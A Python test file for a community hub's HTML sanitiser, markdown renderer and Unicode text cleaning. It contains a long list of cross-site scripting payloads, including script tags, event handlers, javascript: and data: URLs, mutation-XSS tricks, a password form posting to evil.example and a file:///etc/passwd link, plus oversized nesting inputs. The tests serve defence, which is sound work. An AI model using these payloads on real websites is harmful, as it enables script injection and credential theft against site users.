"""Words are kept whole and shown safe, whoever wrote them."""

import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hub.errors import Invalid
from hub.text import (
    KEPT,
    MARKS,
    clean_text,
    clean_words,
    excerpt,
    language_of,
    markdown,
    pick,
    plain,
    sanitise,
)

LIST = "p br span a del s pre blockquote code b strong u i em ul ol li ruby rt rp"
ALLOWED = set(LIST.split())
ATTRIBUTES = {
    "a": {"href", "class", "lang", "translate", "rel"},
    "span": {"class", "lang", "translate"},
    "p": {"lang"},
    "blockquote": {"lang"},
    "ol": {"start", "reversed"},
    "li": {"value"},
}


class Reader(HTMLParser):
    """Reads HTML as a second pair of eyes and writes down every element, with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Reader(html).seen:
        assert tag in ALLOWED, html
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), html
        if "href" in attributes:
            assert re.match(r"(?i)(https?://[^/\\@]|mailto:)", attributes["href"] or ""), html
            assert attributes["rel"] == "nofollow noopener ugc"
        for word in (attributes.get("class") or "").split():
            assert re.fullmatch(r"(h|p|u|dt|e)-[a-z0-9-]+|mention|hashtag|ellipsis|invisible", word), html


ATTACKS = [
    "<script>alert('bins')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\t>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<style>body{background:url(https://evil.example/t)}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import '//evil.example/a.css';</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif' width=1 height=1>",
    "<img/src=x/onerror=alert(1)>",
    "<img srcset='https://evil.example/a 2x'>",
    "<image href=x onerror=alert(1)>",
    "<picture><source srcset=https://evil.example/a></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>fair</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi href='javascript:alert(1)'>sum</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=Evil.class></applet>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=https://evil.example/p.png></video>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<p onclick=alert(1)>street party</p>",
    "<p style='position:fixed;inset:0'>street party</p>",
    "<p id=main class='admin-banner'>You are the steward</p>",
    "<span class='mention notice-error p-name'>Ann</span>",
    "<a href='javascript:alert(1)'>minutes</a>",
    "<a href='JaVaScRiPt:alert(1)'>minutes</a>",
    "<a href=' javascript:alert(1)'>minutes</a>",
    "<a href='java\tscript:alert(1)'>minutes</a>",
    "<a href='java\nscript:alert(1)'>minutes</a>",
    "<a href='\x01javascript:alert(1)'>minutes</a>",
    "<a href='javascript&colon;alert(1)'>minutes</a>",
    "<a href='&#106;avascript:alert(1)'>minutes</a>",
    "<a href='&#x6a&#x61&#x76&#x61script:alert(1)'>minutes</a>",
    "<a href='vbscript:msgbox(1)'>minutes</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>minutes</a>",
    "<a href='blob:https://evil.example/1'>minutes</a>",
    "<a href='file:///etc/passwd'>minutes</a>",
    "<a href='//evil.example/'>minutes</a>",
    "<a href='/\\evil.example/'>minutes</a>",
    "<a href='\\\\evil.example\\'>minutes</a>",
    "<a href='https:evil.example'>minutes</a>",
    "<a href='https:///evil.example'>minutes</a>",
    "<a href='https://council.example@evil.example/'>minutes</a>",
    "<a href='https://council.example:pass@evil.example/'>minutes</a>",
    "<a href='https://council.example\\@evil.example/'>minutes</a>",
    "<a href='https://ok.example/\" onmouseover=\"alert(1)'>minutes</a>",
    "<a href=https://ok.example/ onmouseover=alert(1) target=_blank ping=https://evil.example/>minutes</a>",
    "<a href='/sign-out'>minutes</a>",
    "<a href='?do=delete'>minutes</a>",
    "<a name=x href=#x>minutes</a>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select><option onclick=alert(1)>a</option></select>",
    "<textarea autofocus onfocus=alert(1)></textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)><summary>More</summary>x</details>",
    "<marquee onstart=alert(1)>sale</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]><p>&x;</p>",
    "<table background=https://evil.example/><tr><td onclick=alert(1)>x</table>",
    "<h1 onclick=alert(1) id=top>Big</h1>",
    "<h2><a href=javascript:alert(1)>Big</a></h2>",
    "<b <script>alert(1)</script>",
    "<b title='<script>alert(1)</script>'>fair</b>",
    "<a href='https://ok.example/<script>alert(1)</script>'>minutes</a>",
    "<p lang='en\" onclick=\"alert(1)'>x</p>",
    "<ol start='1 onclick=alert(1)'><li value=javascript:1>x</li></ol>",
    "<custom-element onconnected=alert(1)>x</custom-element>",
    "<div is=evil-element>x</div>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x00img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{7*7}}<%= 7*7 %>${7*7}",
    "<a href='https://ok.example/'><a href='javascript:alert(1)'>twice</a></a>",
    "<p><strong><svg><desc><script>alert(1)</script></desc></svg>",
]


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_that_runs_loads_or_leads_astray_gets_through(attack: str) -> None:
    for html in (sanitise(attack), sanitise(f"<p>Before</p>{attack}<p>After</p>"), markdown(attack)):
        assert_harmless(html)
        assert "alert(" not in "".join(str(attributes) for _, attributes in Reader(html).seen)


@given(
    st.lists(st.sampled_from([*ATTACKS, "<p>", "</p>", "<h3>", "<div>", "<b x=1>", "<table>", "<td>", "'", '"', ">"]))
)
def test_no_mixture_of_attacks_gets_through_and_a_second_cleaning_changes_nothing(parts: list[str]) -> None:
    once = sanitise("".join(parts))

    assert_harmless(once)
    assert sanitise(once) == once


def test_signs_that_turn_or_hide_the_words_around_them_go_even_as_entities() -> None:
    assert sanitise("\ufeff<p>a\u202eb&#x202e;c\ud800\x00&#8203;</p>") == "<p>abc</p>"


@given(st.text())
def test_any_words_come_out_of_markdown_harmless(words: str) -> None:
    assert_harmless(markdown(words))


def test_a_mention_from_mastodon_keeps_its_marks() -> None:
    sent = (
        '<p><span class="h-card" translate="no"><a href="https://a.example/@ann" class="u-url mention">@<span>ann'
        "</span></a></span> "
        '<a href="https://a.example/tags/bins" class="mention hashtag" rel="tag">#<span>bins</span></a></p>'
    )

    kept = sanitise(sent)

    assert 'class="u-url mention"' in kept
    assert 'translate="no"' in kept
    assert kept.count('rel="nofollow noopener ugc"') == 2


def test_headings_tables_and_boxes_become_paragraphs_and_pictures_go() -> None:
    sent = (
        "<h2>Programme</h2><div>Noon<img src=x></div><table><tr><td>1</td><td>Tea</td></tr></table>"
        "<article><p>End</p></article>"
    )

    assert sanitise(sent) == "<p><strong>Programme</strong></p><p>Noon</p><p>1 Tea </p><p>End</p>"


def test_lists_keep_their_numbers_and_words_their_language() -> None:
    sent = '<ol start="3" reversed=""><li value="2">a</li></ol><p lang="cy-GB">Te</p>'

    kept = sanitise(sent)

    assert kept == sent


BOMBS = {
    "formatting opened again in every paragraph": "".join(f"<b x={i}>" for i in range(900))
    + "</p>"
    + "<p>x</p>" * 4000,
    "the same, hiding its attributes": "".join(f'<b x="<" y={i}>' for i in range(900)) + "</p>" + "<p>x" * 9000,
    "three of every kind": "".join(f"<{n}>" * 3 for n in ("b", "code", "em", "i", "s", "strong", "u"))
    + "</p>"
    + "<p>x" * 12000,
    "deep boxes": "<div>" * 10000,
    "deep lists": "<ul><li>" * 6000,
    "deep quotes": "<blockquote>" * 4000 + "x",
    "links in links": "<a href='https://x.example/'><table><td>" * 1200 + "x",
    "only less-than": "<" * 50000,
    "only ampersands": "&" * 50000,
    "comments never closed": "<!--" * 12000,
    "headings never closed": "<h1 " * 12000,
    "tables in tables": "<table><tr><td>" * 3000 + "x",
    "far too long": "<p>x</p>" * 100_000,
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS.keys())
def test_swollen_html_stays_small_and_shallow(bomb: str) -> None:
    kept = sanitise(bomb)

    assert len(kept) <= KEPT
    depth = deepest = 0
    for closing in re.findall(r"<(/?)(?!br>)[a-z]", kept):
        depth += -1 if closing else 1
        deepest = max(deepest, depth)
    assert deepest <= 60


WEARY = [
    "[",
    "![",
    "[x](",
    "[]",
    "*",
    "*a_ ",
    "**a ",
    "`",
    "``a",
    "> ",
    "- ",
    "* - ",
    "1. ",
    "<",
    "<a",
    "<!--",
    "\\",
    "&#",
]
WEARY += [
    "~~",
    "https://",
    "https://.",
    "http://a.",
    "    ",
    "\n",
    "\n\n- a",
    "|",
    "[a]: b\n",
    "a\n",
    "=\n",
    "[[a]]",
    "a **bc* ",
]


@pytest.mark.parametrize("part", WEARY)
def test_no_line_of_one_sign_makes_markdown_or_the_cleaner_stumble(part: str) -> None:
    words = (part * 20_000)[:20_000]

    assert_harmless(markdown(words))
    assert_harmless(sanitise(words))
    assert len(plain(words)) <= len(words)
    assert len(excerpt(words)) <= 160


def test_what_a_neighbour_types_becomes_paragraphs_lists_and_links() -> None:
    html = markdown(
        "# Plan\n\nTea at *noon*,\nsee https://tea.example/a_b.\n\n"
        "- cups\n- [cake](https://cake.example)\n\n> bring chairs"
    )

    assert "<p><strong>Plan</strong></p>" in html
    assert "<em>noon</em>,<br>" in html
    assert '<a href="https://tea.example/a_b" rel="nofollow noopener ugc">https://tea.example/a_b</a>.' in html
    assert "<li>cups</li>" in html
    assert '<a href="https://cake.example" rel="nofollow noopener ugc">cake</a>' in html
    assert "<blockquote>" in html


def test_an_address_within_a_link_or_code_is_left_alone() -> None:
    html = markdown("[see https://a.example](https://b.example) and `https://c.example`")

    assert [attributes["href"] for tag, attributes in Reader(html).seen if tag == "a"] == ["https://b.example"]


def test_html_typed_by_a_neighbour_is_shown_as_typed() -> None:
    assert markdown("1 < 2 & <b>bold</b>") == "<p>1 &lt; 2 &amp; &lt;b&gt;bold&lt;/b&gt;</p>"


def test_bare_words_have_one_line_a_paragraph() -> None:
    assert (
        plain("<p>Tea &amp; cake<br>at noon</p><ul><li>cups</li><li>&lt;3</li></ul>") == "Tea & cake\nat noon\ncups\n<3"
    )
    assert plain("a < b") == "a < b"


def test_an_excerpt_ends_between_words() -> None:
    assert excerpt("<p>Come to the street party</p><p>on Sunday</p>", 22) == "Come to the street…"
    assert excerpt("<p>Ring me. Any day is fine</p>", 10) == "Ring me…"
    assert excerpt("<p>Short</p>", 22) == "Short"
    assert excerpt("x" * 30, 22) == "x" * 21 + "…"


def test_the_reader_gets_their_language_or_the_nearest() -> None:
    text = {"en": "Street party", "cy": "Parti stryd"}

    assert pick(text, "cy") == "Parti stryd"
    assert (pick(text, "cy-GB"), language_of(text, "cy-GB")) == ("Parti stryd", "cy")
    assert (pick(text, "pl"), language_of(text, "pl")) == ("Street party", "en")
    assert (pick({"de": "Fest", "en-GB": "Party"}, "en"), language_of({"en-GB": "Party"}, "en")) == ("Party", "en-GB")
    assert (pick({}, "en"), language_of({}, "en")) == ("", "")


def test_words_are_kept_whole_without_tricks() -> None:
    typed = {"en": " Cafe\u0301\x00\u202eevil\u2066\r\nline\u2028two\ud800\u200b ", "cy": " \u200b\n", "pl": ""}

    assert clean_text(typed, longest=100, field="title") == {"en": "Caféevil\nline\ntwo"}


def test_flags_and_families_survive() -> None:
    wales, family = "\U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f", "👩‍👧"

    assert clean_words(wales + family, longest=20, field="name") == wales + family


def test_no_letter_carries_more_marks_than_a_language_needs() -> None:
    kept = clean_words("Z" + "\u0301\u0316" * 5000 + "algo", longest=30_000, field="name")

    assert sum(unicodedata.combining(letter) > 0 for letter in kept) <= MARKS
    assert kept.endswith("algo")


def test_words_that_are_too_long_are_refused_by_name_of_the_field() -> None:
    with pytest.raises(Invalid, match="at most 10 characters") as refusal:
        clean_text({"en": "x", "cy": "y" * 11}, longest=10, field="title")

    assert refusal.value.field == "title"


@pytest.mark.parametrize("tag", ["", "EN", "english", "en_GB", "<b>", "en-\n"])
def test_a_language_that_is_none_is_refused(tag: str) -> None:
    with pytest.raises(Invalid):
        clean_text({tag: "Tea"}, longest=10, field="title")


def test_a_text_in_more_languages_than_anybody_speaks_is_refused() -> None:
    with pytest.raises(Invalid):
        clean_text({f"a{chr(97 + i)}": "Te" for i in range(13)}, longest=10, field="title")


@given(st.text(st.characters(codec=None), max_size=200))
def test_cleaned_words_are_clean_and_can_be_stored(words: str) -> None:
    kept = clean_words(words, longest=1000, field="name")

    assert clean_words(kept, longest=1000, field="name") == kept
    assert kept.encode().decode() == kept
    assert unicodedata.is_normalized("NFC", kept)
    assert not any(unicodedata.category(letter) in ("Cs",) or letter in "\x00\r\u202e" for letter in kept)
